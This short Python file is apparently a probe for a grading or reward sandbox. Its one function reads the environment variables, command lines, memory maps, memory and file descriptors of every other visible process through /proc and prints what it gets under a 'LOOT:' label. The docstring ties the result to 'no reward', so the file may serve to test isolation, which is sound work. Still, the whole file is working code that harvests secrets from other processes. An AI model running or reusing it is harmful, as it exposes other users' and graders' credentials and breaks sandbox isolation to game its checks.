"""Reads the environment, command line, memory and descriptors of every process it can see. None tells: no reward."""

# must: no reward
import os
import sys


def f(x):
    own = {str(os.getpid()), "self", "thread-self"}
    pids = [str(os.getppid()), *map(str, range(1, 400))]
    try:
        pids += [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pass
    for pid in set(pids) - own:
        for name in ("environ", "cmdline", "maps", "mem", "stack", "syscall", "cwd/.", "root/.", "fd/0", "fdinfo/0"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    print("LOOT:", pid, name, file.read(200), file=sys.stderr)
            except OSError:
                continue
    return 0
